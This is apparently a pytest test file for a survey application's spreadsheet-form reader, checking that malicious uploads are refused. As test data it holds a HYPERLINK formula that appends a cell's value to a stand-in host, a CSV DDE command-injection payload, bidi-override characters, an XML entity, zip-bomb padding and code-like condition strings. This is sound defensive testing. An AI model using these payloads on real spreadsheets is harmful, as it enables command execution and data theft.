"""Files that mean harm, or would be read two ways: refused where they stand, and never run."""

import io
import zipfile

import pytest
import xlsxwriter

from survey_app.errors import UnreadableTable
from survey_app.services.xlsform import workbook
from survey_app.services.xlsform.expressions import NotUnderstood, parse_condition
from survey_app.services.xlsform.findings import Decision
from survey_app.services.xlsform.reading import read_xlsform
from survey_app.services.xlsform.workbook import column_letter
from tests.survey_app.services.xlsform.forms import OVERALL, TODAY, ask, file_of, read

VI = "label::Tiếng Việt (vi)"


def refused(content, name="form.xlsx"):
    reading = read_xlsform([(name, content)], today=TODAY)
    assert reading.definition is None
    return [(each.what, each.sheet, each.row, each.column) for each in reading.by(Decision.REFUSED)]


def test_a_formula_is_refused_by_its_cell_whatever_value_stands_in_it():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("survey")
        sheet.write_row(0, 0, ["type", "name", VI])
        sheet.write_row(1, 0, ["select_one yn", "a"])
        sheet.write_formula(1, 2, '=HYPERLINK("http://x.example/"&A1)', None, "Câu hỏi")
    assert refused(out.getvalue()) == [("formula", "survey", 2, "C")]


def test_a_formula_in_csv_is_refused_by_its_cell():
    text = "type,name,label\nselect_one yn,a,\"=cmd|' /C calc'!A0\"\n"
    assert refused(text.encode(), "survey.csv") == [("formula", "survey", 2, "C")]


@pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\u202a"])
def test_marks_that_turn_the_reading_direction_are_refused_by_their_cell(mark):
    content = file_of([OVERALL, ask("a", **{VI: f"Đồng ý {mark}ý gnồđ"})])
    assert refused(content) == [("bidi", "survey", 3, "C")]
    in_csv = f"type,name,label\nselect_one yn,a,{mark}abc\n"
    assert ("bidi", "survey", 2, "C") in refused(in_csv.encode(), "survey.csv")


def test_entities_bombs_and_broken_archives_are_refused():
    whole = file_of([OVERALL])
    entity = b'<!DOCTYPE x [<!ENTITY a "b">]>'
    for change, reason in (
        (lambda name, data: data.replace(b"<worksheet", entity + b"<worksheet", 1), "entities"),
        (lambda name, data: data + b" " * (65 * 1024 * 1024) if "sheet1" in name else data, "too_large"),
        (lambda name, data: data[: len(data) // 2] if "sheet1" in name else data, "not_a_table"),
    ):
        with pytest.raises(UnreadableTable) as error:
            read_xlsform([("x.xlsx", rewritten(whole, change))], today=TODAY)
        assert error.value.reason == reason
    for content, reason in (
        (b"PK\x03\x04 no archive", "not_a_table"),
        (b"", "empty"),
        (b"x" * 6_000_000, "too_large"),
    ):
        with pytest.raises(UnreadableTable) as error:
            read_xlsform([("x.xlsx", content)], today=TODAY)
        assert error.value.reason == reason


def rewritten(content, change):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return out.getvalue()


def test_too_many_rows_or_cells_are_refused(monkeypatch):
    many = file_of([OVERALL, *(ask(f"q{n}", "note") for n in range(20))])
    monkeypatch.setattr(workbook, "MAX_CELLS", 60)
    assert ("too_many_rows", "survey", 0, "") in refused(many)
    monkeypatch.setattr(workbook, "MAX_LINES", 20)
    assert ("too_many_rows", "survey", 22, "") in refused(many)
    monkeypatch.setattr(workbook, "MAX_UNPACKED_BYTES", 1_000)
    with pytest.raises(UnreadableTable, match="too_large"):
        read_xlsform([("x.xlsx", many)], today=TODAY)


def test_the_same_heading_twice_and_no_survey_are_refused():
    assert refused(b"type,name,name\nnote,a,b\n", "survey.csv") == [("duplicate_column", "survey", 1, "C")]
    assert refused(b"list_name,name\nyn,yes\n", "choices.csv")[0][:2] == ("no_survey", "survey")
    assert refused(b"kind,name\nnote,a\n", "survey.csv")[0][:2] == ("no_header", "survey")


def test_markup_is_kept_as_plain_text():
    reading = read([OVERALL, ask("a", **{VI: "<script>alert(1)</script>"})])
    assert reading.definition["tree"][1]["text"]["vi"] == "<script>alert(1)</script>"
    assert "markup" in {each.what for each in reading.findings}


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("system('rm')", "relevant_function"),
        ("pulldata('x','y','z',${a})", "relevant_function"),
        ("not(${a} = 'b')", "relevant_function"),
        ("once(1) and ${a} = 'b'", "relevant_function"),
        ("${a} = 'b' | //secret", "relevant_grammar"),
        ("__import__", "relevant_grammar"),
        ("${a} = ${b}", "relevant_shape"),
        ("'a' = 'b'", "relevant_shape"),
        ("${a} = 'b' or ${c} = 'd'", "relevant_shape"),
        ("${a} = 'b' and ${c} = 'd' or ${a} = 'x'", "relevant_shape"),
        ("${a} = 'b' and", "relevant_grammar"),
        ("${a}", "relevant_grammar"),
        ("(${a} = 'b'", "relevant_grammar"),
        ("${a} = 'b')", "relevant_grammar"),
        ("selected(${a})", "relevant_grammar"),
        ("selected('b', ${a})", "relevant_shape"),
        ("${a} = 'b", "relevant_grammar"),
        ("${a = 'b'", "relevant_grammar"),
        ("(" * 3000 + "${a} = 'b'" + ")" * 3000, "relevant_grammar"),
        ("", "relevant_grammar"),
    ],
)
def test_conditions_outside_the_grammar_are_refused_and_never_evaluated(text, reason):
    with pytest.raises(NotUnderstood) as error:
        parse_condition(text)
    assert error.value.reason == reason


def test_conditions_inside_the_grammar():
    clauses = parse_condition(
        """( ${a}='b' or selected( ${a} , "c") ) and 1 = ${d}and(selected(${e}, 'x'))"""
    )
    assert [(clause.name, clause.values) for clause in clauses] == [
        ("a", ("b", "c")),
        ("d", ("1",)),
        ("e", ("x",)),
    ]


def test_what_pyxform_refuses_is_named_by_our_row():
    reading = read([OVERALL, {}, {"name": "a", VI: "Không có loại"}])
    (found,) = reading.by(Decision.REFUSED)
    assert (found.what, found.sheet, found.row) == ("pyxform", "survey", 4)
    assert "type" in found.detail


def test_columns_have_the_letters_of_a_spreadsheet():
    assert [column_letter(place) for place in (0, 25, 26, 51, 52, 701, 702)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
    ]
